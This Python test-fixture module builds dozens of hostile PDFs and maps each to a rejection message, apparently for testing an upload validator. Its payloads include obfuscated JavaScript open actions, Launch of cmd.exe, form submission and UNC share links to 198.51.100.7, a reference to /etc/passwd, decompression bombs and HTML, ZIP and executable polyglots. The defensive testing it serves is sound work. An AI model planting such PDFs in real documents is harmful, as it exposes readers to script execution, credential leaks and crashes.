"""Hostile PDFs, each made by code, and a table of them all with what the candidate is told."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from tricks import CARRIES, DAMAGED, Maker, zipped

PAGE = {
    1: b"<< /Type /Catalog /Pages 2 0 R %s >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
}
UTF16 = "\ufeffjavascript:x".encode("utf-16-be")
WEB = b"/URI (http://198.51.100.7/opened)"
REF = b"<< /F (x.pdf) /Page 0 >>"
BY_ITSELF = "opens a page on the web by itself"
EVIL = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def pdf(catalog: bytes = b"", trailer: bytes = b"", **more: bytes) -> bytes:
    """One page, written by hand; `o7=…` is object 7, `catalog` and `trailer` are further entries of
    those.
    """
    objects = {number: text.replace(b"%s", catalog) for number, text in PAGE.items()}
    objects |= {int(name[1:]): text for name, text in more.items()}
    return with_cross_references(b"%PDF-1.7\n", objects, trailer)


def with_cross_references(
    start: bytes, objects: dict[int, bytes], trailer: bytes = b"", prev: int | None = None
) -> bytes:
    """Objects with a right cross-reference table behind `start`."""
    data, places = bytearray(start), {}
    for number, text in objects.items():
        places[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    xref, rows = len(data), b"".join(b"%d 1\n%010d 00000 n \n" % place for place in places.items())
    tail = b"/Prev %d " % prev if prev is not None else b""
    data += b"xref\n0 1\n0000000000 65535 f \n%s" % rows
    data += b"trailer\n<< /Size 99 /Root 1 0 R %s%s >>\nstartxref\n%d\n%%%%EOF\n" % (
        tail,
        trailer,
        xref,
    )
    return bytes(data)


def stream(payload: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(payload), entries, payload)


def in_object_stream(
    inner: bytes,
    packed: bytes | None = None,
    entries: bytes = b"/Filter /FlateDecode",
    used: bool = False,
) -> bytes:
    """Object 9 in an object stream; `used` is an action that the catalogue names, in a table that
    leads there.
    """
    head = b"9 0 "
    payload = zlib.compress(head + inner) if packed is None else packed
    packing = stream(payload, b"/Type /ObjStm /N 1 /First %d %s" % (len(head), entries))
    return with_stream_table({4: packing}, b"/OpenAction 9 0 R") if used else pdf(o8=packing)


def with_stream_table(objects: dict[int, bytes], catalog: bytes) -> bytes:
    """One page, whose table is a stream and says that object 9 is the first in the object stream
    4.
    """
    data, places = bytearray(b"%PDF-1.7\n"), {}
    every = {number: text.replace(b"%s", catalog) for number, text in PAGE.items()} | objects
    for number, text in every.items():
        places[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    rows = [struct.pack(">BIB", 0, 0, 0)]
    rows += [
        struct.pack(">BIB", 1, places[number], 0) if number in places else bytes(6)
        for number in range(1, 9)
    ]
    rows.append(struct.pack(">BIB", 2, 4, 0))
    entries = b"/Type /XRef /Size 10 /W [1 4 1] /Root 1 0 R"
    table = len(data)
    data += b"11 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        stream(b"".join(rows), entries),
        table,
    )
    return bytes(data)


def with_opening_in_stream(opening: bytes) -> bytes:
    packed = zlib.compress(b"9 0 " + opening)
    packing = stream(packed, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    return with_stream_table({4: packing}, b"/OpenAction 9 0 R")


def older_revision() -> bytes:
    """The action stands in the first version of the catalogue only; an update shows a clean one."""
    first = pdf(b"/OpenAction " + EVIL)
    clean = {1: PAGE[1].replace(b"%s", b"")}
    return with_cross_references(
        first, clean, prev=int(first.rsplit(b"startxref", 1)[1].split()[0])
    )


def page_loop() -> bytes:
    return pdf(
        o2=b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        o4=b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
    )


def many_pages(count: int) -> bytes:
    return pdf(
        o2=b"<< /Type /Pages /Kids [%s] /Count 1 >>" % b" ".join([b"<</Type/Page>>"] * count)
    )


def encrypted(user_password: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password, owner_password="owner", algorithm="RC4-128")
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def add_script(writer: PdfWriter) -> None:
    script = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert(1)")}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject(k): v for k, v in script.items()}
    )


def action(kind: bytes, more: bytes = b"", **others: bytes) -> Maker:
    return lambda: pdf(b"/OpenAction << /Type /Action /S /%s %s >>" % (kind, more), **others)


def annotated(annotation: bytes, **more: bytes) -> bytes:
    """A page with something on it that may be clicked."""
    return pdf(o3=PAGE[3].replace(b">>", b"/Annots [4 0 R] >>"), o4=annotation, **more)


def shown_link(address: bytes, **more: bytes) -> Maker:
    annotation = (
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI %s >> >>" % address
    )
    return lambda: annotated(annotation, **more)


def with_drawing(drawing: bytes) -> bytes:
    return PAGE[3].replace(b">>", b"/Resources << /XObject << /X %s >> >> >>" % drawing)


def protected(add: Callable[[PdfWriter], object], algorithm: str = "AES-256") -> bytes:
    """A PDF that everybody may read, and nobody change or copy."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    add(writer)
    writer.encrypt("", owner_password="owner", algorithm=algorithm)
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def link(address: bytes) -> Maker:
    return lambda: pdf(o4=b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI %s >> >>" % address)


def bomb_in_object_stream() -> bytes:
    return in_object_stream(b"", packed=zlib.compress(b"9 0 " + b" " * 200_000_000, 9))


def many_object_streams() -> bytes:
    packed = stream(
        zlib.compress(b"9 0 " + b" " * 9_000_000, 9),
        b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
    )
    return pdf(**{f"o{number}": packed for number in range(10, 60)})


SCRIPT, START, SEND = (
    "contains a script",
    "can start a program or open another file",
    "a form that sends data",
)
MEDIA, BEFORE, BEHIND = "plays media", "Something stands before", "Something stands behind"

PDFS: dict[str, tuple[Maker, str]] = {
    "a script that runs when it is opened": (action(b"JavaScript", b"/JS (x)"), SCRIPT),
    "a script in the tree of names": (lambda: pdf(b"/Names << /JavaScript << /Names [(a) %s] >> >>" % EVIL), SCRIPT),
    "a script on leaving a page": (lambda: pdf(o3=PAGE[3].replace(b">>", b"/AA << /C %s >> >>" % EVIL)), SCRIPT),
    "a script spelt with escapes": (action(b"#4aava#53cript", b"/J#53 (x)"), SCRIPT),
    "a script spelt with one escape": (action(b"J#61vaScript"), SCRIPT),
    "a script behind a comment": (lambda: pdf(b"/OpenAction <</S%here\n/JavaScript%>>\n/JS(x)>>"), SCRIPT),
    "a script in an object stream": (lambda: in_object_stream(b"<< /A %s >>" % EVIL), SCRIPT),
    "a script beside a string that hides it": (lambda: in_object_stream(b"( << /A %s >>" % EVIL), SCRIPT),
    "a script in an older revision": (older_revision, SCRIPT),
    "a script in an object that nothing names": (lambda: pdf(o77=EVIL), SCRIPT),
    "a script named twice": (lambda: pdf(b"/OpenAction << /S /GoTo /S /JavaScript >>"), SCRIPT),
    "a script whose object is never closed": (lambda: pdf() + b"8 0 obj" + EVIL + b"\n%%EOF", SCRIPT),
    "a program that is started": (action(b"Launch", b"/Win << /F (cmd.exe) >>"), START),
    "another document that is opened": (action(b"GoToR", b"/F (//198.51.100.7/share/x.pdf)"), START),
    "a document inside that is opened": (action(b"GoToE", b"/T << /R /C >>"), START),
    "data that is fetched": (action(b"ImportData", b"/F (x.fdf)"), START),
    "a form that sends": (action(b"SubmitForm", b"/F (http://198.51.100.7)"), SEND),
    "a film": (action(b"Rendition", b"/OP 0"), MEDIA),
    "rich media": (lambda: pdf(o4=b"<< /Subtype /RichMedia >>"), MEDIA),
    "a sound": (action(b"Sound"), MEDIA),
    "a dynamic form": (lambda: pdf(b"/AcroForm << /XFA [] >>"), "XFA"),
    "a file inside": (lambda: pdf(o4=stream(b"MZ", b"/Type /EmbeddedFile")), CARRIES),
    "a file inside, by its names": (
        lambda: pdf(b"/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 7 0 R >> >>] >> >>", o7=stream(b"MZ")),
        CARRIES),
    "a file inside that says it is XML": (
        lambda: pdf(
            o4=stream(zlib.compress(b"MZ<x/>"), b"/Type /EmbeddedFile /Subtype /text#2Fxml /Filter /FlateDecode")),
        CARRIES),
    "a file on a page": (lambda: pdf(o4=b"<< /Subtype /FileAttachment /FS << /EF << >> >> >>"), CARRIES),
    "a stream from another file": (lambda: pdf(o4=stream(b"", b"/F (/etc/passwd)")), "from another file"),
    "a link that is a script": (link(b"(javascript:alert\\(1\\))"), "not on the web"),
    "a link that is a script, broken up": (link(b"(java\\nscript:x)"), "not on the web"),
    "a link that is a script, in digits": (link(b"<6a6176617363726970743a78>"), "not on the web"),
    "a link that is a script, in UTF-16": (link(b"(%s)" % UTF16), "not on the web"),
    "a link that is a script, in UTF-8": (link(b"(\xef\xbb\xbfjavascript:x)"), "not on the web"),
    "a link to a program": (link(b"(file:///c:/windows/x.exe)"), "not on the web"),
    "a link to another machine": (link(b"(file://198.51.100.7/share)"), "not on the web"),
    "a link to another machine, in escapes": (link(b"(file:///%5c%5c198.51.100.7/share)"), "not on the web"),
    "a link to a share": (link(b"(\\\\\\\\198.51.100.7\\\\share)"), "not on the web"),
    "a link that is a script and stands elsewhere": (shown_link(b"7 0 R", o7=b"(javascript:x)"), "not on the web"),
    "a link in an object stream that is a script": (
        lambda: in_object_stream(b"<< /S /URI /URI (javascript:x) >>"), "not on the web"),
    "a page on the web, when it is opened": (action(b"URI", WEB), BY_ITSELF),
    "a page on the web, by another object": (
        lambda: pdf(b"/OpenAction 7 0 R", o7=b"<< /S /URI %s >>" % WEB), BY_ITSELF),
    "a page on the web, its kind in another object": (
        lambda: pdf(b"/OpenAction << /S 7 0 R %s >>" % WEB, o7=b"/URI"), BY_ITSELF),
    "a page on the web, after a place": (
        action(b"GoTo", b"/D [3 0 R /Fit] /Next << /S /URI %s >>" % WEB), BY_ITSELF),
    "a page on the web, after two places": (
        action(b"GoTo", b"/D [3 0 R] /Next [<< /S /GoTo /D [3 0 R] /Next 7 0 R >>]", o7=b"<</S/URI%s>>" % WEB),
        BY_ITSELF),
    "a page on the web, when it is closed": (lambda: pdf(b"/AA << /WC << /S /URI %s >> >>" % WEB), BY_ITSELF),
    "a page on the web, when a page is shown": (
        lambda: pdf(o3=PAGE[3].replace(b">>", b"/AA << /O 7 0 R >> >>"), o7=b"<< /S /URI %s >>" % WEB), BY_ITSELF),
    "a page on the web, when a mark is seen": (
        lambda: annotated(b"<< /Subtype /Link /Rect [0 0 9 9] /AA << /PV << /S /URI %s >> >> >>" % WEB), BY_ITSELF),
    "a page on the web, by a field": (
        lambda: pdf(b"/AcroForm << /Fields [<< /T (a) /FT /Tx /AA << /F << /S /URI %s >> >> >>] >>" % WEB), BY_ITSELF),
    "a page on the web, for whoever prints": (
        lambda: annotated(b"<< /Subtype /Link /Rect [0 0 9 9] /PA << /S /URI %s >> >>" % WEB), BY_ITSELF),
    "a page on the web, in an object stream": (
        lambda: with_opening_in_stream(b"<< /S /URI %s >>" % WEB), BY_ITSELF),
    "a thread on another machine": (action(b"Thread", b"/D 0 /F << /F (\\\\\\\\198.51.100.7\\\\x.pdf) >>"), START),
    "a thread on the web": (action(b"Thread", b"/D 0 /F << /FS /URL /F (http://198.51.100.7/x.pdf) >>"), START),
    "a thread on another machine, in another object": (
        action(b"Thread", b"/D 0 /F 7 0 R", o7=b"<< /F 9 0 R >>", o9=b"(//198.51.100.7/x.pdf)"), START),
    "a thread that a link leads to": (
        lambda: annotated(b"<< /Subtype /Link /A << /S /Thread /D 0 /F (//198.51.100.7/x.pdf) >> >>"), START),
    "a page out of another file": (
        lambda: pdf(o3=with_drawing(b"7 0 R"), o7=stream(b"", b"/Subtype /Form /BBox [0 0 9 9] /Ref << /F (x.pdf) >>")),
        "from another file"),
    "a page out of another file, in another object": (
        lambda: pdf(o3=with_drawing(b"7 0 R"), o7=stream(b"", b"/Subtype /Form /BBox [0 0 9 9] /Ref 9 0 R"), o9=REF),
        "from another file"),
    "a stream from another file, in another object": (
        lambda: pdf(o3=with_drawing(b"7 0 R"), o7=stream(b"", b"/Subtype /Form /F 9 0 R"), o9=b"(//198.51.100.7/x)"),
        "from another file"),
    "links that begin on another machine": (
        lambda: pdf(b"/URI << /Base (file://198.51.100.7/) >>"), "not on the web"),
    "links that begin on another machine, in another object": (
        lambda: pdf(b"/URI 7 0 R", o7=b"<< /Base 9 0 R >>", o9=b"(file://198.51.100.7/)"), "not on the web"),
    "a script behind a protection": (
        lambda: protected(add_script), SCRIPT),
    "a file behind a protection": (
        lambda: protected(lambda writer: writer.add_attachment("x.exe", b"MZ")), CARRIES),
    "a script in a stream that is packed otherwise": (
        lambda: in_object_stream(EVIL, (b"9 0 " + EVIL).hex().encode() + b">", b"/Filter /ASCIIHexDecode", used=True),
        SCRIPT),
    "a script in a stream that is not packed": (
        lambda: in_object_stream(EVIL, b"9 0 " + EVIL, b"", used=True), SCRIPT),
    "a page before it": (lambda: b"<html><script>alert(1)</script>" + pdf(), BEFORE),
    "a page in its first comment": (lambda: pdf().replace(b"\n", b"\n%<script>alert(1)</script>\n", 1), "web page"),
    "a drawing in its first comment": (lambda: pdf().replace(b"\n", b"\n%<svg onload=x>\n", 1), "web page"),
    "a script file around it": (lambda: b"/*" + pdf() + b"*/alert(1)", BEFORE),
    "a picture before it (GIF)": (lambda: b"GIF89a" + b"\0" * 20 + pdf(), BEFORE),
    "a program before it": (lambda: b"MZ" + b"\0" * 60 + pdf(), BEFORE),
    "a page behind it": (lambda: pdf() + b" " * 1024 + b"<html><script>alert(1)</script>", BEHIND),
    "an archive behind it": (lambda: pdf() + zipped({"a.js": "x"}), BEHIND),
    "an archive that ends like a PDF": (lambda: pdf() + zipped({"A.class": "x"}, b"%%EOF"), "archive as well"),
    "an archive of LibreOffice's behind it": (
        lambda: pdf() + zipped({"mimetype": "application/vnd.oasis.opendocument.text"}, b"%%EOF", zipfile.ZIP_STORED),
        "archive as well"),
    "an archive around it": (lambda: zipped({"a.pdf": pdf()}, method=zipfile.ZIP_STORED), "an archive (.zip)"),
    "a password": (lambda: encrypted("secret"), "protected with a password"),
    "encryption spelt with escapes": (lambda: pdf(trailer=b"/#45ncrypt << /Filter /Standard >>"), "protected"),
    "pages in a circle": (page_loop, DAMAGED),
    "a page that is its own parent": (lambda: pdf(o2=b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"), DAMAGED),
    "no page": (lambda: pdf(o2=b"<< /Type /Pages /Kids [] /Count 9 >>"), "has no page"),
    "201 pages": (lambda: many_pages(201), "more than 200 pages"),
    "100,000 pages that say they are one": (lambda: many_pages(100_000), "more than 200 pages"),
    "lists in lists in lists": (lambda: pdf(o3=b"[" * 100_000 + b"]" * 100_000), DAMAGED),
    "dictionaries in dictionaries": (lambda: pdf(o3=b"<< /A " * 50_000 + b">>" * 50_000), DAMAGED),
    "an object stream of 200 MB": (bomb_in_object_stream, "too large when unpacked"),
    "fifty object streams of 9 MB": (many_object_streams, "too large when unpacked"),
    "300,000 objects": (lambda: pdf() + b"1 0 obj endobj " * 300_000 + b"%%EOF", "too many parts"),
    "a second half that is missing": (lambda: pdf()[:200], DAMAGED),
    "words": (lambda: b"%PDF-1.7\nI am a resume.\n%%EOF", DAMAGED),
}  # fmt: skip
